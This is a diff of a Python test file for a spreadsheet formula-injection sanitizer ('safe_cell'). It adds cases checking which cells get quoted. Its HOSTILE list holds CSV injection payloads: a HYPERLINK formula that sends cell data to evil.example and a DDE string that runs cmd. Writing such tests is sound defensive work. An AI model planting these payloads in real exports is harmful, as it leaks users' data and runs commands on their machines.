@@ -15,6 +15,10 @@ import sys
 from pathlib import Path
 from typing import Any
 
+import pytest
+
+from gpupool.protocol.csvsafe import safe_cell
+
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3+cmd",
            "=1+2"]
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
@@ -81,3 +85,11 @@ def test_the_generated_workload_reads_back_as_written(tmp_path: Path) -> None:
          "--profile", "fifo", "--out", str(tmp_path / "out"), "--jobs", "1", "--quiet")
     rows = list(csv.DictReader((tmp_path / "out" / "queues.csv").open(newline="")))
     assert {r["queue"] for r in rows} == {"a", "b"} and sum(int(r["jobs"]) for r in rows) > 0
+
+
+@pytest.mark.parametrize(("cell", "written"), [
+    ("=1+2", "'=1+2"), ("+1", "'+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
+    ("-3", "-3"), ("-0.25", "-0.25"), ("-1e-05", "-1e-05"), ("-inf", "'-inf"), ("-", "'-"), ("a=b", "a=b"),
+    ("", ""), (-3, -3), (-0.5, -0.5), (None, None)])
+def test_a_cell_is_quoted_only_when_a_spreadsheet_could_run_it(cell: object, written: object) -> None:
+    assert safe_cell(cell) == written
